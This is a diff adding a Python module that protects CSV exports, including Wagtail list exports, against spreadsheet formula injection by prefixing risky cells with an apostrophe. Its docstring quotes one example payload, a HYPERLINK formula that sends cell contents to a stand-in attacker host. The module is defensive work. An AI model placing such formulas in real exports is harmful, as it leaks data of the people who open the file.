@@ -1,0 +1,64 @@
+"""CSV exports that a spreadsheet program cannot turn into formulas (CSV/formula injection).
+
+A cell that starts with ``= + - @`` (or a tab or carriage return, which some programs skip
+before reading a formula) is run as a formula when the file is opened: a contact name
+``=HYPERLINK("https://evil.example/?"&A1, "klik")`` leaks data. Following OWASP, such text gets
+a leading ``'``, which spreadsheets show as text. Numbers stay numbers (a negative int is
+not text someone typed). Every CSV export writes through :func:`csv_writer` /
+:func:`csv_dict_writer`, or, for Wagtail's list exports (snippets, modeladmin),
+:class:`SafeSpreadsheetExportMixin`; XLSX is safe already (Wagtail writes formula-like
+strings as text).
+"""
+
+import csv
+from typing import Any
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def neutralise_cell(value: Any) -> Any:
+    """``value`` as a spreadsheet shows it as text; non-text values are returned unchanged."""
+    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
+        return "'" + value
+    return value
+
+
+class _SafeWriter:
+    def __init__(self, writer):
+        self._writer = writer
+
+    def writerow(self, row):
+        return self._writer.writerow(self._neutralise(row))
+
+    def writerows(self, rows):
+        for row in rows:
+            self.writerow(row)
+
+    def _neutralise(self, row):
+        return [neutralise_cell(value) for value in row]
+
+    def __getattr__(self, name):  # writeheader, dialect
+        return getattr(self._writer, name)
+
+
+class _SafeDictWriter(_SafeWriter):
+    def _neutralise(self, row):
+        return {key: neutralise_cell(value) for key, value in row.items()}
+
+
+def csv_writer(out, **kwargs) -> _SafeWriter:
+    """Like :func:`csv.writer`, with every cell neutralised."""
+    return _SafeWriter(csv.writer(out, **kwargs))
+
+
+def csv_dict_writer(out, fieldnames, **kwargs) -> _SafeDictWriter:
+    """Like :class:`csv.DictWriter`, with every cell neutralised."""
+    return _SafeDictWriter(csv.DictWriter(out, fieldnames, **kwargs))
+
+
+class SafeSpreadsheetExportMixin:
+    """For Wagtail index views with ``list_export``: CSV cells are neutralised (XLSX already is)."""
+
+    def preprocess_field_value(self, field, value, export_format):
+        value = super().preprocess_field_value(field, value, export_format)
+        return neutralise_cell(value) if export_format == "csv" else value
